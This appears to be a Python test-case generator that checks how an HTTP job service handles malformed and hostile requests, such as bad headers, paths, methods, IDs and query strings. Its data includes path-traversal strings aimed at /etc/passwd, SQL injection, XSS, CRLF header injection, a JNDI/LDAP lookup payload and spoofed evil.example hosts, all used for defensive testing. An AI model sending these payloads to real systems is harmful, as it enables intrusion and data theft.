def follows() -> Iterator[Case]:
    for name, value in {
        "a word": b"x",
        "negative": b"-1",
        "19 digits": b"9" * 19,
        "5,000 digits": b"9" * 5000,
        "other digits": "\u0663".encode(),
        "two": b"1\r\nLast-Event-ID: 2",
    }.items():
        yield Case(f"events after {name}", "404", get(NOBODY + b"/events", b"Last-Event-ID: " + value))
        yield Case(f"a state that is {name}", "404", get(NOBODY, b"If-None-Match: " + value))
    for target in (NOBODY, NOBODY + b"/retry", NOBODY + b"/events", NOBODY + b"/", NOBODY + b"/x", b"/jobs/retry"):
        yield Case(f"DELETE {target[-10:].decode()}", "404 405", get(target, method=b"DELETE"))
        yield Case(f"HEAD {target[-10:].decode()}", "404 405", get(target, method=b"HEAD"))
        yield Case(f"PUT {target[-10:].decode()}", "404 405", get(target, method=b"PUT"))
    yield Case("a retry of nobody's", "404", post(path=NOBODY + b"/retry"))
    for body in (
        b"",
        b"[]",
        b'{"state":"succeeded"}',
        b'{"state":["failed"]}',
        b'{"job":7}',
        b'{"x":1}',
        b'{"state":"queued"}',
    ):
        yield Case(f"a retry of {body.decode()}", "400 422", post(path=b"/jobs/retry", body=body))
    yield Case("a retry of unknown jobs", "200", post(path=b"/jobs/retry", body=b'{"job":"\\u0000 OR 1=1"}'))
    yield Case("another site's retry", "403", post(b"Sec-Fetch-Site: cross-site", path=NOBODY + b"/retry", body=b""))
    yield Case("another site's cancel", "403", get(NOBODY, b"Sec-Fetch-Site: cross-site", method=b"DELETE"))


def original() -> Iterator[Case]:
    """The original form."""
    for name, want, body in (
        ("a text", "200", b'{"job_id":"@MARK@"}'),
        ("a list", "422", b'{"job_id":["@MARK@"]}'),
        ("an unknown member", "422", b'{"job_id":"@MARK@","x":1}'),
        ("a number of 400 digits", "200 400 422", b'{"job_id":1' + b"0" * 400 + b"}"),
        ("a name twice", "400", b'{"job_id":"@MARK@","job_id":7}'),
        ("not JSON", "400", b"job_id=@MARK@"),
        ("lines and escapes", "200", b'{"job_id":"@MARK@\\r\\nSet-Cookie: a=b\\r\\n\\r\\n\\u001b[31m<script>"}'),
    ):
        yield Case(name, want, post(path=b"/", body=body))
        yield Case(f"{name}, by GET", want, get(b"/", b"Content-Length: %d" % len(body)) + body)
    for path in (b"//", b"/./", b"/%2e/", b"/x/..", b"/%2f", b"/;a", b"/index.html"):
        body = b'{"job_id":"@MARK@"}'
        yield Case(f"at {path.decode()}", "404 400", get(path, b"Content-Length: %d" % len(body)) + body)
    yield Case("a query", "200", get(b"/?a=b", b"Content-Length: 19") + b'{"job_id":"@MARK@"}')


HEADERS = {
    "a key of 256 characters": ("400", b"Idempotency-Key: " + b"k" * 256),
    "a key of 8,000 characters": ("400", b"Idempotency-Key: " + b"k" * 8000),
    "an empty key": ("400", b"Idempotency-Key:"),
    "an empty text as a key": ("400", b'Idempotency-Key: ""'),
    "a key that stays open": ("400", b'Idempotency-Key: "a'),
    "two keys": ("400", b"Idempotency-Key: a@MARK@\r\nIdempotency-Key: b"),
    "two keys in one": ("400", b"Idempotency-Key: a@MARK@, b"),
    "a key with a parameter": ("400", b'Idempotency-Key: "a@MARK@";x=1'),
    "a key that is not ASCII": ("400", b"Idempotency-Key: k\xc3\xa9y"),
    "a key of SQL": ("202", b'Idempotency-Key: "@MARK@\'; DROP TABLE jobs; --"'),
    "a key of a format": ("202", b'Idempotency-Key: "@MARK@%s%n{0}${x}"'),
    "Prefer, garbage": ("202 200", b'Prefer: wait=banana, , =;;;\x09"x'),
    "Prefer, negative": ("202 200", b"Prefer: wait=-1"),
    "Prefer, a fraction": ("202 200", b"Prefer: wait=0.5"),
    "Prefer, 5,000 digits": ("202 200", b"Prefer: wait=" + b"9" * 5000),
    "Prefer, a thousand times": ("202 200", b"Prefer: " + b"wait=0," * 1000 + b"x"),
    "Prefer, not a number": ("202 200", b"Prefer: wait=NaN"),
    "Prefer, other digits": ("202 200", "Prefer: wait=\u0663".encode()),
    "type: none": ("202", b"Content-Type:"),
    "type: with a charset": ("202", b"Content-Type: application/json; charset=utf-16"),
    "type: capitals": ("202", b"Content-Type: APPLICATION/JSON"),
    "type: two": ("415", b"Content-Type: application/json\r\nContent-Type: text/plain"),
    "type: text": ("415", b"Content-Type: text/plain"),
    "type: parts": ("415", b"Content-Type: multipart/form-data; boundary=x"),
    "type: parts without a boundary": ("415", b"Content-Type: multipart/form-data"),
    "type: pickle": ("415", b"Content-Type: application/x-python-serialize"),
    "type: garbage": ("202 415", b"Content-Type: ;;;///=\xff"),
    "type: 8,000 bytes": ("415", b"Content-Type: " + b"x" * 8000),
    "encoding: gzip": ("202 400 415", b"Content-Encoding: gzip"),
    "a range": ("202", b"Range: bytes=0-1,2-3,-9"),
    "a condition": ("202", b'If-None-Match: "x"\r\nIf-Match: *\r\nIf-Modified-Since: yesterday'),
    "a request id with lines": ("202 400", b"X-Request-ID: a\rSet-Cookie: a=b"),
    "a request id with escapes": ("202", b"X-Request-ID: %0d%0aSet-Cookie:%20a=b"),
    "a request id of markup": ("202", b"X-Request-ID: <script>alert(1)</script>"),
    "a request id of 65 characters": ("202", b"X-Request-ID: " + b"a" * 65),
    "a request id of a log": ("202", b'X-Request-ID: ","status":200,"x":"'),
    "two request ids": ("202", b"X-Request-ID: a\r\nX-Request-ID: b"),
    "authorization: garbage": ("202 401", b"Authorization: \xff\xfe"),
    "authorization: basic": ("202 401", b"Authorization: Basic Og=="),
    "authorization: bearer of nothing": ("202 401", b"Authorization: Bearer"),
    "authorization: 8,000 bytes": ("202 401", b"Authorization: Bearer " + b"x" * 8000),
    "an address of its own": ("202", b"X-Real-IP: 6.6.6.6\r\nX-Forwarded-For: 6.6.6.6, 127.0.0.1"),
    "an address that is none": ("202", b"X-Real-IP: <script>\r\nX-Forwarded-For: ${x}"),
    "another method": ("202", b"X-HTTP-Method-Override: DELETE"),
    "another address": ("202", b"X-Original-URL: /readyz\r\nX-Rewrite-URL: /readyz"),
    "another scheme": ("202", b"X-Scheme: javascript\r\nX-Forwarded-Proto: gopher"),
    "another host": ("202", b"X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example"),
    "another site": ("403", b"Sec-Fetch-Site: cross-site"),
    "another origin": ("403", b"Origin: http://evil.example"),
    "an origin that is garbage": ("403", b"Origin: \xff//[["),
    "another site, the same registrable domain": ("403", b"Sec-Fetch-Site: same-site"),
    "a site that is garbage": ("403", b"Sec-Fetch-Site: none, cross-site"),
    "cookies": ("202", b"Cookie: " + b"a=b; " * 1000 + b'"\\;'),
    "an agent of escapes": ("202 400", b"User-Agent: \x1b]0;pwned\x07\x1b[31m"),
    "an agent of quotes": ("202", b'User-Agent: ","status":200,"x":"\\'),
    "an agent that is no UTF-8": ("202", b"User-Agent: \xff\xfe\xc2\x9b31m"),
    "a referrer of escapes": ("202 400", b"Referer: \x1b[31m"),
    "a language": ("202", b"Accept-Language: " + b"de;q=0.1," * 500),
    "range and upgrade": ("202", b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
}


def headers() -> Iterator[Case]:
    for name, (want, lines) in HEADERS.items():
        yield Case(name, want, post(lines))


PATHS = (
    b"/../etc/passwd",
    b"/jobs/../../../../etc/passwd",
    b"/jobs/..%2f..%2fetc%2fpasswd",
    b"/jobs/%2e%2e/%2e%2e/etc/passwd",
    b"/jobs/..%252f..%252fetc%252fpasswd",
    b"/jobs/..;/stats",
    b"/jobs/..\\..\\stats",
    b"/jobs/%5c..%5cstats",
    b"/jobs/%c0%ae%c0%ae/",
    b"/jobs/%00",
    b"/jobs/%0d%0aSet-Cookie:%20a=b",
    b"/jobs/%",
    b"/jobs/%zz",
    b"/jobs/%ff",
    b"/jobs/\xff",
    b"/jobs/\xc2\x9b31m",
    b"/jobs/<script>alert(1)</script>",
    b"/jobs/${jndi:ldap://x.example/a}",
    b"/jobs/'%20OR%20'1'='1",
    b"//jobs//",
    b"/jobs/",
    b"/JOBS/7",
    b"/.problem/400",
    b"/.problem/502",
    b"/%2eproblem/400",
    b"/.git/config",
    b"/.env",
    b"/nginx.conf",
    b"/closing",
    b"/stats/",
    b"/stats/../nothing",
    b"/favicon.ico",
    b"/robots.txt",
    b"/wp-login.php",
    b"/cgi-bin/x",
    b"/jobs/" + b"a/" * 2000,
)
# Nearly one: too short, too long, version 4, capitals, braces, without lines, with another digit, with a line's end.
IDS = (
    b"01890000-0000-7000-8000-00000000000",
    b"01890000-0000-7000-8000-0000000000000",
    b"01890000-0000-4000-8000-000000000000",
    b"01890000-0000-7000-8000-00000000000G",
    b"01890000-0000-7000-8000-00000000000A",
    b"{01890000-0000-7000-8000-000000000000}",
    b"01890000000070008000000000000000",
    b"01890000-0000-7000-8000-00000000000%30",
    b"01890000-0000-7000-8000-000000000000%0a",
    b"01890000-0000-7000-8000-000000000000%00",
    b"01890000-0000-7000-8000-000000000000",
    b"ffffffff-ffff-7fff-bfff-ffffffffffff",
    b"0",
    b"-1",
    b"7",
    b"null",
)
METHODS = (b"TRACE", b"TRACK", b"PROPFIND", b"MKCOL", b"PURGE", b"BREW", b"PUT", b"PATCH", b"M-SEARCH", b"X" * 2000)


def paths() -> Iterator[Case]:
    for path in PATHS:
        yield Case(f"{path.decode('latin1')[:40]}", "404 400", get(path))
    for id in IDS:
        yield Case(f"id {id.decode()}", "404 400", get(b"/jobs/" + id))
    for method in METHODS:
        yield Case(f"{method.decode()[:20]} /jobs", "405 400", get(b"/jobs", method=method))
        yield Case(f"{method.decode()[:20]} /nothing", "405 404 400", get(b"/nothing", method=method))
        yield Case(f"{method.decode()[:20]} /", "405 400", get(b"/", method=method))
    for method in (b"get", b"Get", b"post", b"G\xc3\x89T", b"GET,POST", b"<GET>", b""):
        yield Case(f"method {ascii(method)[2:-1]!r}", "400", get(b"/healthz", method=method), "400 405")


def queries() -> Iterator[Case]:
    for name, query in {
        "a method": b"_method=DELETE",
        "a body": b"job=noop&args=%7B%7D",
        "a thousand": b"a=b&" * 1500,
        "signs": b"&&&===;;;???%%%",
        "no UTF-8": b"a=%ff%fe&b=\xff",
        "a NUL": b"a=%00",
        "lines": b"a=%0d%0aSet-Cookie:%20a=b",
        "markup": b"a=<script>alert(1)</script>",
        "a wait that is no number": b"wait=banana",
        "a wait without an end": b"wait=1e999",
        "5,000 digits": b"wait=" + b"9" * 5000,
        "brackets": b"a[b][c]=d&a[]=e",
    }.items():
        yield Case(f"{name}, and a job", "202 200 400 422", post(path=b"/jobs?" + query))
        yield Case(f"{name}, and no job", "404 400 422", get(b"/jobs/01890000-0000-7000-8000-000000000000?" + query))


GROUPS = {
    "smuggling": smuggling,
    "chunks": chunks,
    "syntax": syntax,
    "hosts": hosts,
    "pipelines": pipelines,
    "sizes": sizes,
    "documents": documents,
    "names": names,
    "members": members,
    "lists": lists,
    "lines": bulk,
    "following": follows,
    "the original form": original,
    "headers": headers,
    "paths and methods": paths,
    "queries": queries,
}
